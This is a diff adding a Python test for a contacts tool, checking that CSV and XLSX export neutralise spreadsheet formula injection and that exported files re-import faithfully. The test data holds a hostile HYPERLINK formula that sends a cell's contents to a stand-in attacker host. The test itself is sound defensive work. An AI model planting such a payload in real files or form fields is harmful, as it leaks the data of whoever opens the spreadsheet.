@@ -108,3 +108,50 @@ def test_export_errors(tmp_path: Path, db: Database, runner) -> None:
     result = runner("contacts", "export", "-o", str(tmp_path / "missing" / "x.csv"))
     assert result.exit_code == 1 and "Cannot write" in result.output
     assert not (tmp_path / "missing").exists()
+
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+
+
+def test_csv_export_neutralises_formulas_and_reimports_them(runner, tmp_path: Path, db_path: Path) -> None:
+    """Issue 15 item 5: a name entered on the public form never comes out as a live formula for Excel."""
+    source = tmp_path / "in.csv"
+    source.write_text("Email,Name,Telefon,City\r\n"
+                      f'evil@x.example.org,"{EVIL.replace(chr(34), chr(34) * 2)}",+48 22 000,\'s-Hertogenbosch\r\n'
+                      "at@x.example.org,@SUM(A1),-5,plain\r\n", encoding="utf-8")
+    assert runner("contacts", "import", str(source)).exit_code == 0
+    out = tmp_path / "out.csv"
+    assert runner("contacts", "export", "-o", str(out)).exit_code == 0
+    import csv
+
+    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
+    assert rows["evil@x.example.org"]["name"] == "'" + EVIL
+    assert rows["evil@x.example.org"]["Telefon"] == "'+48 22 000"
+    assert rows["evil@x.example.org"]["City"] == "'s-Hertogenbosch"  # not a formula start: left alone
+    assert rows["at@x.example.org"]["name"] == "'@SUM(A1)" and rows["at@x.example.org"]["Telefon"] == "'-5"
+    for row in rows.values():
+        assert not any(value[:1] in "=+-@\t\r" for value in row.values() if value)
+
+    # the neutralised file imports back to exactly what was stored
+    assert runner("--db", str(tmp_path / "again.db"), "contacts", "import", str(out)).exit_code == 0
+    db = open_database(tmp_path / "again.db")
+    try:
+        evil = get_contact(db, "evil@x.example.org")
+        assert evil.name == EVIL and evil.attributes == {"Telefon": "+48 22 000", "City": "'s-Hertogenbosch"}
+        assert get_contact(db, "at@x.example.org").attributes["Telefon"] == "-5"
+    finally:
+        db.close()
+
+    # --raw writes what is stored (for scripts), and that also imports back unchanged
+    raw = tmp_path / "raw.csv"
+    assert runner("contacts", "export", "-o", str(raw), "--raw").exit_code == 0
+    raw_rows = {row["email"]: row for row in csv.DictReader(io.StringIO(raw.read_text(encoding="utf-8-sig")))}
+    assert raw_rows["evil@x.example.org"]["name"] == EVIL and raw_rows["at@x.example.org"]["Telefon"] == "-5"
+    # XLSX: typed text, no formula, no apostrophe
+    from openpyxl import load_workbook
+
+    book = tmp_path / "out.xlsx"
+    assert runner("contacts", "export", "-o", str(book)).exit_code == 0
+    sheet = load_workbook(book).active
+    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    assert names["evil@x.example.org"].value == EVIL and names["evil@x.example.org"].data_type == "s"
